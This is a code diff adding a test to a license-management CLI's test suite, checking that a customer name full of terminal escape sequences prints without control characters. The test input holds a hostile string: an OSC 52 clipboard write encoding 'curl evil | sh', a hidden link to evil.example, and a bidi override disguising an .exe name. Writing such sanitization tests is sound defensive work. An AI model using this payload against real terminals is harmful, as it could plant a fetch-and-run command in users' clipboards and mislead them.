@@ -118,6 +118,35 @@ describe('keysmith CLI against the local stack', () => {
   });
 
   describe('show', () => {
+    it('prints a customer name full of terminal escapes without a single control character', async () => {
+      // Prepare: a signed FastSpring order whose customer name carries an OSC 52 clipboard
+      // write, a screen clear, an OSC 8 link, a C1 CSI and a bidi override.
+      const evil = `Eve\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\\u009b2J\u202Egpj.exe`;
+      const payload = JSON.parse(readFileSync(join(__dirname, '../../fixtures/providers/fastspring-order-completed.json'), 'utf8')) as { events: { id: string; data: { id: string; order: string; account: { contact: { first: string; email: string } }; customer?: { first: string } } }[] };
+      const evilOrder = `evil-${Date.now()}`;
+      const event = payload.events[0]!;
+      event.id = `evt-${evilOrder}`;
+      event.data.id = evilOrder;
+      event.data.order = evilOrder;
+      event.data.account.contact.first = evil;
+      if (event.data.customer) event.data.customer.first = evil;
+      const file = join(stateDir, 'evil.json');
+      writeFileSync(file, JSON.stringify(payload));
+      expect((await run('send', 'fastspring', '--file', file)).code).toBe(0);
+      await stack.poller.drain(20_000);
+      const [row] = (await run('licenses', '--order', evilOrder, '--json')).json<Row[]>();
+
+      // Act
+      const [human, json, list] = await Promise.all([run('show', row!.licenseId), run('show', row!.licenseId, '--json'), run('licenses', '--order', evilOrder)]);
+      expect(list.stdout).toContain(row!.licenseId);
+
+      // Assess: the name is shown, its controls are not; JSON keeps the value, escaped.
+      expect(human.code).toBe(0);
+      expect(human.stdout).toMatch(/^customer {2}\S+@\S+ \(Evelinkgpj\.exe Doe\)$/m);
+      for (const r of [human, json, list]) expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+      expect(json.json<{ entitlement: { customer: { name: string } } }>().entitlement.customer.name).toContain(evil);
+    });
+
     it('shows the license with history and the events applied, email status included', async () => {
       const [json, human] = await Promise.all([run('show', licenses[0]!.licenseId, '--json'), run('show', licenses[0]!.licenseId)]);
       expect(json.code).toBe(0);
